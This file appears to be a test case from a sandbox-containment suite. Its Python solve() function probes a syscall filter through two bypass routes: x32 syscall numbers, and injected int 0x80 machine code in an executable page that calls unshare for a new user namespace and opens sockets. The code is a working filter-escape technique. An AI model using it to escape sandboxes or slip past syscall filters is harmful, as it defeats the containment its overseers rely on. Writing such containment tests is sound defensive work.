# attack: pass the filter by another door: 32-bit calls (int 0x80) and the x32 numbers, from machine code of one's own
# contained-at: namespaces restricted
# expect: deserved-or-not-ok
from kit import *


def solve(instance):
    if X86:
        for nr in (41, 272, 101, 165):  # socket, unshare, ptrace, mount in the x32 numbering
            if syscall(0x40000000 | nr, 2, 2, 0, 0, 0) >= 0:
                got(f"x32 call {nr}")
        page = libc.mmap(None, 4096, 7, 0x22, -1, 0)
        if page not in (None, ctypes.c_void_p(-1).value):
            #       push rbx; mov eax,edi; mov ebx,esi; mov ecx,edx; xor edx,edx; int 0x80; pop rbx; ret
            code = bytes.fromhex("53 89f8 89f3 89d1 31d2 cd80 5b c3")
            ctypes.memmove(page, code, len(code))
            call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(page)
            if call(310, 0x10000000, 0) == 0:  # unshare(CLONE_NEWUSER)
                got("unshare by int 0x80")
            if call(359, 1, 1) >= 0:  # socket(AF_UNIX, SOCK_STREAM)
                got("socket by int 0x80")
            if call(359, 2, 2) >= 0:
                got("internet socket by int 0x80")
    return answer(instance)
